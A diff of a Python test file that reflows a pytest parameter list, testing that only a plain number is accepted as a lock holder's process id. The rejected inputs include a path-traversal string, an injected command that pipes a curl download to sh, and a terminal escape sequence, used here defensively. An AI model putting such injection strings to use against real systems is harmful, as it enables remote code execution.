@@ -100,7 +100,16 @@ def test_a_holder_that_has_ended_has_no_command() -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["", "no number", "..", "../../tmp/x", "1;curl e.test|sh", "1\x1b]0;T\x07", "12345678901", "¹²"],
+    [
+        "",
+        "no number",
+        "..",
+        "../../tmp/x",
+        "1;curl e.test|sh",
+        "1\x1b]0;T\x07",
+        "12345678901",
+        "¹²",
+    ],
 )
 def test_only_a_number_is_taken_for_the_holders_process(path: Path, text: str) -> None:
     """Members of the group can write to the file: /proc/../../tmp/x/cmdline might be a FIFO."""
